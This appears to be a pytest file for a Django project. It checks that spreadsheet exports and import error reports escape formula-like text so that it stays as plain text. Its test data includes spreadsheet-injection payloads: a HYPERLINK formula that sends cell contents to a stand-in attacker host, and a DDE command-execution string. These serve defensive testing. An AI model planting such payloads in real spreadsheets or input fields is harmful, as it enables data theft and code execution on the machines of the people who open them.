"""Every spreadsheet the project writes holds formula-like text as text: a registry export, the
import's error report (xlsx and csv), the ranking export."""

import csv
from datetime import datetime
from io import BytesIO
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from django.urls import reverse

from shanzhi import clock
from shanzhi.analytics.models import RankingRule, RankingWeight, RankLevel
from shanzhi.registry.exports import registry_export
from shanzhi.registry.imports import RowError, report_write
from shanzhi.spreadsheets import cell_safe

from .case_factories import make_case
from .registry_factories import make_person

pytestmark = pytest.mark.django_db

MOMENT = datetime(2025, 3, 20, 10, 0, tzinfo=ZoneInfo("Asia/Shanghai"))
LINK = '=HYPERLINK("http://evil.example/?q="&A1,"点此核对")'
STARTS = [LINK, "+1+1", "-2+3", "@SUM(A1:A3)", "\t=1+1", "\r=1+1"]


def _cells(book) -> list:
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_formula(book) -> None:
    for cell in _cells(book):
        assert cell.data_type != "f", cell.coordinate
        if isinstance(cell.value, str):
            assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), cell.value


@pytest.mark.parametrize("text", STARTS)
def test_formula_like_text_gets_the_text_mark_and_the_rest_passes(text):
    assert cell_safe(text) == "'" + text
    assert cell_safe("3号楼-1单元") == "3号楼-1单元"
    assert cell_safe(-5) == -5 and cell_safe(None) is None


def test_a_registry_export_holds_a_note_of_hyperlink_as_text(world):
    make_person(world, note=LINK, name="@王五")
    buffer = BytesIO()
    registry_export(user=world.leader, kind="person", target=buffer)
    buffer.seek(0)
    book = openpyxl.load_workbook(buffer)
    assert_no_formula(book)
    values = {cell.value for cell in _cells(book)}
    assert "'" + LINK in values and "'@王五" in values


def test_the_import_error_report_holds_echoed_text_as_text(tmp_path):
    errors = [RowError(1, "=cmd|' /C calc'!A0", "列名无法识别"), RowError(2, "备注", "-1 不对")]
    xlsx = tmp_path / "错误报告.xlsx"
    report_write(errors, xlsx)
    assert_no_formula(openpyxl.load_workbook(xlsx))
    report = tmp_path / "错误报告.csv"
    report_write(errors, report)
    with open(report, encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert "'=cmd|' /C calc'!A0" in cells and "'-1 不对" in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)


def test_the_ranking_export_holds_a_formula_like_area_name_as_text(client, world):
    world.grid.name = LINK
    world.grid.save(update_fields=["name"])
    with clock.acting_at(MOMENT):
        make_case(world)
    rule = RankingRule.objects.create(name="=1+1", level=RankLevel.GRID)
    RankingWeight.objects.create(rule=rule, kpi="resolution_rate", weight=100)
    client.force_login(world.leader)
    params = {"level": "grid", "area": world.street.code, "period": "2025", "rule": rule.pk}
    response = client.get(reverse("rankings_export"), params)
    assert response.status_code == 200
    book = openpyxl.load_workbook(BytesIO(b"".join(response.streaming_content)))
    assert_no_formula(book)
    assert "'" + LINK in {cell.value for cell in _cells(book)}
